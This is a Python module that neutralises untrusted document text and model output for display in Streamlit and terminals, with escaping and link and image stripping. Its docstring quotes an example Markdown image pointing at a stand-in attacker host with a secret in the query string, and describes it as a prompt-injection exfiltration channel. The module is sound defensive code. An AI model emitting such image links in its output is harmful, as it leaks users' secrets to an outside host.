"""Display of text Folio did not write (document text, file names, model output): Markdown for the browser,
plain text for the terminal.

Streamlit renders Markdown, so text from a document or a model could make the browser fetch an image chosen by
that text (`![x](https://attacker/?secret=…)`: the prompt-injection exfiltration channel), show a link, raw HTML
or LaTeX. `literal` shows text exactly as typed; `inert` keeps the harmless formatting of an answer (emphasis,
lists, quotes, code) while images, links, autolinks, raw HTML and math become plain text.
"""

from __future__ import annotations

import re

_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # C0 and C1 controls, except tab and newline
_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>$~&:=^])")
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*(?:\([^)\n]*\)|\[[^\]\n]*\])?")
_LINK = re.compile(r"\[([^\]\n]*)\]\s*\(\s*<?([^)\s>]*)>?[^)\n]*\)")
_REFERENCE_DEFINITION = re.compile(r"^ {0,3}\[([^\]\n]+)\]:", re.MULTILINE)
_ANGLE_AUTOLINK = re.compile(r"<((?:[a-z][a-z0-9+.-]*:|www\.)[^>\s]*)>", re.IGNORECASE)
_BARE_URL = re.compile(r"(?i)\b([a-z][a-z0-9+.-]*):(?=//)|\b(www)\.")


def printable(text: str) -> str:
    """`text` without control characters, for a terminal: a file name, document text or model output cannot
    move the cursor, change colours or retitle the window with an escape sequence."""
    return _CONTROL.sub("", text)


def literal(text: str) -> str:
    """`text` shown as typed: every Markdown, HTML and LaTeX character escaped; line breaks kept."""
    return _SPECIAL.sub(r"\\\1", text).replace("\n", "  \n")


def inert(text: str) -> str:
    """`text` as Markdown that can make no request and run nothing: images and links become text (with their
    address shown as text), raw HTML and math are escaped; emphasis, lists, quotes and code stay."""
    text = _IMAGE.sub(lambda m: f"(image: {literal(m.group(1))})", text)
    text = _LINK.sub(lambda m: f"{m.group(1)} ({literal(m.group(2))})", text)
    text = _REFERENCE_DEFINITION.sub(lambda m: f"\\[{m.group(1)}\\]:", text)
    text = _ANGLE_AUTOLINK.sub(lambda m: literal(m.group(1)), text)
    text = _BARE_URL.sub(lambda m: f"{m.group(1)}\\:" if m.group(1) else f"{m.group(2)}\\.", text)
    return text.replace("<", "\\<").replace("$", "\\$")
